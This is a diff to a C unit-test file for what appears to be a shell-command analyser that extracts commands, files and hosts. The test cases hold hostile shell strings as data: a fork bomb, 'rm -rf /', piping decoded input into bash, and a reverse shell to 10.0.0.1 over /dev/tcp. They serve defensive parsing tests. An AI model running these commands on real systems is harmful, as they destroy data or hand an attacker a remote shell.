@@ -176,6 +176,9 @@ static void grammar(void **state)
         {"function f { rm x; }; g() { f; }; g", "rm", "", "x", ""},
         {":(){ :|:& };:", "", "", "", ""},
         {"ls() { rm x; }; ls", "rm", "", "x", ""},
+        {"f() { rm x; } && ls", "ls", "", "", ""},
+        {"f() { rm x; } | cat; ls", "cat ls", "", "", ""},
+        {"git commit -m \"$(cat <<'E'\nrm -rf / $(x) 'a\nE\n)\" && ls", "git cat ls", "", "", ""},
         {"f() { rm x; }; time f", "rm", "", "x", ""},
         {"f() { rm x; }; xargs f", "rm xargs f?", "?", "x?", "?"},
         {"x=rm; $x a", "rm", "", "a", ""},
@@ -251,6 +254,11 @@ static void wrappers(void **state)
         {"base64 -d x | bash -", "base64 bash?", "x?", "?", "?"},
         {"cat x | while read l; do sh; done", "cat read sh?", "x?", "?", "?"},
         {"sh < x", "sh?", "x?", "?", "?"},
+        {"a > >(sh)", "a sh?", "?", "?", "?"},
+        {"a | tee >(sh)", "a tee sh?", "?", "?", "?"},
+        {"sh <&3", "sh?", "?", "?", "?"},
+        {"exec < x; sh", "exec sh?", "x?", "?", "?"},
+        {"read PATH; ls", "read ls?", "", "", ""},
         {"source x", "source?", "x?", "?", "?"},
         {". ./x", ".?", "x?", "?", "?"},
         {"su -c 'rm x' bob", "su rm", "", "x", ""},
@@ -373,7 +381,7 @@ static void files(void **state)
         {"git push https://h.test/a main", "git", "", "", "h.test"},
         {"git push origin main", "git", "", "", ""},
         {"cat < /dev/tcp/h.test/80", "cat", "", "", "h.test"},
-        {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash", "", "", "10.0.0.1"},
+        {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash?", "?", "?", "10.0.0.1?"},
     };
     CHECK(cases);
 }
